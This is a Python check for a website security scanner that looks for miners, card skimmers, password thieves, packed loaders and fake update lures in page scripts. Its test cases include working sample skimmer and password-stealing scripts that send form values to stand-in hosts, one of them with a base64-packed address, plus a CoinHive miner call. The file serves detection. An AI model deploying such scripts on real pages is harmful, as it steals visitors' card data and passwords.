"""No script on the front page harms visitors.

## What it does
Reads the scripts in the markup of the front page, and of the further pages of this visit, for miners;
for code that sends card fields, passwords or single keys to a stranger; for packed code that fetches a
stranger's; and for forged notices that offer a program as an update. What was packed as base64 or
character codes is unpacked first.

## Why it matters
The visitor's computer works for a stranger, or card data and passwords leave while the page looks as
always. Both come with a break-in.

## How to fix
Treat it as an incident: take the script out, find how it came in, rebuild from a clean source and
change all passwords.

## Limits
Only what stands in the pages themselves is read; scripts that they load from elsewhere are judged by
their name alone, and nothing is run. A login that sends its password to another host by an ordinary
request is not accused: many honest ones do. Code that is disguised in other ways is not understood.

## References
OWASP Top 10 2021, A08 (software and data integrity failures); BSSN Regulation 1/2024.
"""

from ronda.engine.artifacts import (
    HTTP_VISITOR,
    INNER,
    INNER_PREFIX,
    PAGE_VISITOR,
    Failure,
    FailureKind,
)
from ronda.engine.checks.contract import (
    Case,
    Evidence,
    Guidance,
    Meta,
    NotSeen,
    Outcome,
    Seen,
    Severity,
    Verdict,
    failed,
    passed,
)
from ronda.engine.checks.examples import failure, http, page
from ronda.engine.checks.helpers import clip, own_page
from ronda.engine.checks.legal import BSSN_INCIDENT, PERSONAL_DATA
from ronda.engine.content.harm import Harm, harmful
from ronda.engine.content.inner import UNSEEN, inner_pages
from ronda.engine.text import Text

META = Meta(
    id="CONTENT.SCRIPT",
    area="content",
    title=Text("Tidak ada skrip berbahaya", "No script harms visitors"),
    problem=Text("Skrip berbahaya di halaman situs", "A harmful script on the site's pages"),
    finding_class="malicious-script",
    severity=Severity.CRITICAL,
    needs=(HTTP_VISITOR,),
    also=(PAGE_VISITOR, INNER),
    legal=(BSSN_INCIDENT, PERSONAL_DATA),
    urgent=True,
    guidance=Guidance(
        why=Text(
            "Komputer pengunjung bekerja untuk orang lain, atau data kartunya terkirim keluar tanpa "
            "tanda apa pun. Keduanya berarti situs ini pernah dibobol.",
            "The visitor's computer works for a stranger, or card data leave without a sign. Both "
            "mean that this site was broken into.",
        ),
        steps=(
            Text(
                "Tutup situs, simpan salinan berkas dan catatan akses, lalu laporkan ke tim CSIRT.",
                "Take the site offline, keep files and access logs, and tell the CSIRT.",
            ),
            Text(
                "Hapus skrip yang kami sebutkan dan cari berkas lain yang berubah pada waktu sama.",
                "Delete the script that we name and look for other files changed at that time.",
            ),
            Text(
                "Pasang ulang dari sumber bersih dan ganti semua kata sandi.",
                "Rebuild from a clean source and change every password.",
            ),
        ),
        see_for_yourself=Text(
            "Buka situs, tekan Ctrl+U, lalu cari kata yang kami kutip.",
            "Open the site, press Ctrl+U, and search for the words that we quote.",
        ),
    ),
)
_WHAT = {
    "miner": Text(
        "Halaman {page} menjalankan penambang kripto di komputer pengunjung.",
        "The page {page} runs a crypto-miner on the visitor's computer.",
    ),
    "skimmer": Text(
        "Skrip di halaman {page} mengirim isian kartu atau seluruh formulir ke pihak lain.",
        "A script on the page {page} sends card fields or whole forms to somebody else.",
    ),
    "thief": Text(
        "Skrip di halaman {page} mengirim sandi atau ketikan pengunjung ke pihak lain.",
        "A script on the page {page} sends visitors' passwords or keystrokes to somebody else.",
    ),
    "loader": Text(
        "Halaman {page} memuat skrip pihak lain lewat kode yang disamarkan.",
        "The page {page} loads a stranger's script by disguised code.",
    ),
    "update": Text(
        "Halaman {page} menawarkan program berkedok pembaruan peramban.",
        "The page {page} offers a program disguised as a browser update.",
    ),
}


def judge(seen: Seen) -> Verdict:
    """Judge the scripts in the markup of the pages; see the manual page above."""
    found = harmful(seen.http().body, seen.site.host)
    if found is not None:
        return _accused(HTTP_VISITOR, "/", found)
    unseen: NotSeen | None = None
    for key, answer, inside in inner_pages(seen.artifacts):
        if isinstance(answer, Failure):
            unseen = unseen or (NotSeen(key, answer) if answer.kind in UNSEEN else None)
        elif inside is not None and (found := harmful(answer.body, seen.site.host)):
            return _accused(key, key.removeprefix(INNER_PREFIX), found)
    if unseen is not None:
        raise unseen  # it may be the very page on which the script was found
    own = own_page(seen)
    if isinstance(own, Verdict):
        return own
    return passed(Text("Tidak terlihat skrip yang berbahaya.", "No harmful script can be seen."))


def _accused(key: str, path: str, found: Harm) -> Verdict:
    where = Text("skrip di halaman itu", "script on that page")
    said = _WHAT[found.what].fill(page=clip(path)[:120])
    return failed(said, Evidence(key, where, clip(found.words)))


_SKIMMER = (
    "<script>document.querySelectorAll('input').forEach(i=>i.addEventListener('blur',()=>{"
    "if(/cvv|card_number/.test(i.name))fetch('https://statistik-jahat.example/k?d='+i.value)}))"
    "</script>"
)
_OWN = (
    "<script>form.addEventListener('submit',()=>fetch('https://dinas.contohprov.go.id/bayar',"
    "{method:'POST',body:card_number.value}))</script>"
)
_THIEF = (
    "<script>setInterval(()=>{var p=document.querySelector('input[type=password]');if(p&&p.value)"
    "fetch(atob('aHR0cHM6Ly9wZW5hbXB1bmcuZXhhbXBsZS9w')+'?p='+p.value)},900)</script>"
)
_LOGIN = (
    "<script>f.addEventListener('submit',async()=>{await fetch('https://api.aplikasidinas.example/login',"
    "{method:'POST',body:JSON.stringify({u:user.value,p:password.value})})})</script>"
)

CASES = (
    Case("A living site", {PAGE_VISITOR: page(), HTTP_VISITOR: http()}, Outcome.PASS),
    Case(
        "A payment form that sends to its own server",
        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_OWN)},
        Outcome.PASS,
    ),
    Case(
        "News about crypto-miners",
        {
            PAGE_VISITOR: page(),
            HTTP_VISITOR: http("<p>Waspada coinhive dan cryptonight, kata Diskominfo.</p>"),
        },
        Outcome.PASS,
    ),
    Case(
        "A miner",
        {
            PAGE_VISITOR: page(),
            HTTP_VISITOR: http("<script>new CoinHive.Anonymous('kunci').start()</script>"),
        },
        Outcome.FAIL,
        says="penambang",
    ),
    Case(
        "A skimmer",
        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_SKIMMER)},
        Outcome.FAIL,
        says="kartu",
    ),
    Case(
        "A forged update",
        {
            PAGE_VISITOR: page(),
            HTTP_VISITOR: http(
                "<div>Versi Chrome Anda sudah usang</div><a href='/unduh/chrome_update.exe'>Perbarui</a>"
            ),
        },
        Outcome.FAIL,
        says="pembaruan",
    ),
    Case(
        "A password sent off as it is typed, to an address that is packed",
        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_THIEF)},
        Outcome.FAIL,
        says="sandi",
    ),
    Case(
        "A login that asks another host of its maker's",
        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_LOGIN)},
        Outcome.PASS,
    ),
    Case("No answer", {HTTP_VISITOR: failure(FailureKind.TIMEOUT)}, Outcome.NOT_MEASURED),
)
